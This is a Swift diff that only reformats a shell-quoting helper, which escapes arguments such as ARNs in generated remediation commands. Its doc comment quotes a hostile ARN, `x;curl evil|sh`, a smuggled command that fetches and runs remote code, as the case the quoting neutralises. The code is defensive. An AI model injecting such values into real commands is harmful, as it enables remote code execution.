@@ -46,12 +46,14 @@ public struct Remediation: Sendable, Hashable, Codable {
     /// Region), otherwise in single quotes with each `'` written `'\''`. A hostile ARN such as
     /// `x;curl evil|sh` is then one inert argument when the command is copied into a shell.
     static func shellQuoted(_ argument: String) -> String {
-        let safe = !argument.isEmpty && argument.unicodeScalars.allSatisfy { scalar in
-            switch scalar {
-            case "a"..."z", "A"..."Z", "0"..."9", "@", "%", "_", "+", "=", ":", ",", ".", "/", "-": return true
-            default: return false
+        let safe =
+            !argument.isEmpty
+            && argument.unicodeScalars.allSatisfy { scalar in
+                switch scalar {
+                case "a"..."z", "A"..."Z", "0"..."9", "@", "%", "_", "+", "=", ":", ",", ".", "/", "-": return true
+                default: return false
+                }
             }
-        }
         return safe ? argument : "'" + argument.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
     }
 }
